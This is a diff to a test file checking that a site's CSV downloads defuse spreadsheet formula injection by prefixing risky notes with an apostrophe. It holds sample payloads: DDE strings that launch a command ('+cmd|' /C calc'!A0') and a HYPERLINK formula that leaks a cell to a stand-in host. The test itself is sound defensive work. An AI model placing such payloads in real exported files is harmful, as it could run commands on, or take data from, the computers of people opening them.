@@ -20,8 +20,11 @@ import { sampleCopy } from './helpers/fixtures';
 import { buildSite } from './helpers/build';
 import { FORMULA_PAYLOADS } from './helpers/formula-payloads';
 
-/** Last, because its line break moves the lines after it down by one. */
-const PAYLOADS = [...FORMULA_PAYLOADS, "=A1\n+cmd|' /C calc'!A0"];
+/**
+ * A carriage return on its own is refused as a control character (content/characters.ts), so it
+ * never reaches a download; the line break is last, because it moves the lines after it down.
+ */
+const PAYLOADS = [...FORMULA_PAYLOADS.filter((p) => !p.startsWith('\r')), "=A1\n+cmd|' /C calc'!A0"];
 
 interface Placed {
   payload: string;
@@ -114,11 +117,10 @@ describe('a data note that a spreadsheet would run as a formula', () => {
   it('is described in plain words, quoting at most 40 characters with control characters escaped', () => {
     expect(warnings.map((w) => w.message)).toMatchInlineSnapshot(`
       [
-        "note "=HYPERLINK("http://x.example/?leak="&..." begins with "=", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
+        "note "=HYPERLINK("http://x.example/?leak="&A1…" begins with "=", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
         "note "+cmd|' /C calc'!A0" begins with "+", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
         "note "@SUM(1+1)" begins with "@", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
         "note "-2+3+cmd|' /C calc'!A0" begins with "-", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
-        "note "=1+1" begins with "=", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
         "note "=1+1" begins with "=", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
         "note "=A1\\n+cmd|' /C calc'!A0" begins with "=", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
       ]
